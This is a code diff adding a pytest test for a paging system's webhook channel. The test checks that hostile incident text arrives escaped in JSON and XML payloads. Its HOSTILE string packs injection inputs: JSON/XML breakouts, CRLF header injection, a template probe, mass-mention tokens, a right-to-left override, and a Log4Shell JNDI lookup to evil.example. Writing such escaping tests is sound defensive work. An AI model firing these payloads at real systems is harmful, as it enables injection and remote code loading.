@@ -8,15 +8,17 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 import structlog
+from msgspec.structs import replace
 from pydantic import SecretStr
 
 from paging.channels import AppriseChannel
 from paging.outward import Outward
+from paging.pages import after_case
 from paging.post import ANSWER_SECONDS, Outcome, Parcel, Post
-from paging.words import Line, Message, together
+from paging.words import Line, Message, of_ending, of_page, together
 from runtime import logs
 from runtime.metrics import Metrics
-from tests.unit.paging.stand import Hands
+from tests.unit.paging.stand import LADDERS, NOW, Hands, case
 from tests.waiting import until
 
 MESSAGE = together([Line("critical: meadow", "failure")])
@@ -72,6 +74,35 @@ def test_a_webhook_gets_the_message(receiver: Receiver) -> None:
     told = json.loads(body)
     assert (told["title"], told["type"]) == ("Firebreak: critical: meadow", "failure")
     assert told["message"] == "critical: meadow"
+
+
+HOSTILE = (
+    '"}], "x": "y</message><evil/>]]>&lol; <!everyone> @channel [restore](https://evil.example) '
+    "\r\nX-Header: 1 {{7*7}} %0a ${jndi:ldap://evil.example/a} \u202egnol"
+)
+
+
+@pytest.mark.parametrize("kind", ["json", "xml"])
+def test_what_a_chain_said_stays_words_on_the_wire(receiver: Receiver, kind: str) -> None:
+    hostile = replace(case(), protocol=HOSTILE[:120], summary=HOSTILE)
+    page = after_case(None, hostile, LADDERS, NOW * 1000, 86_400)
+    assert page is not None
+    message = together([of_page(page), of_ending(replace(page, ended="acknowledged", by=HOSTILE))])
+    channel = AppriseChannel("hook", SecretStr(f"{kind}://127.0.0.1:{receiver.server_port}/path"))
+    assert channel.tell(message)
+    ((path, body),) = receiver.got
+    assert path == "/path"
+    wire = body.decode()
+    if kind == "json":
+        told = json.loads(wire)["message"]
+    else:
+        assert "<evil" not in wire
+        told = wire[wire.index("<Message>") : wire.index("</Message>")]
+        assert wire.count("</Message>") == 1
+    assert "firebreak acknowledge" in told
+    assert not {"@", "\u202e", "\r"} & set(told)
+    assert "://evil" not in told
+    assert "evil.example" not in told
 
 
 @pytest.mark.parametrize("style", ["json", "text"])
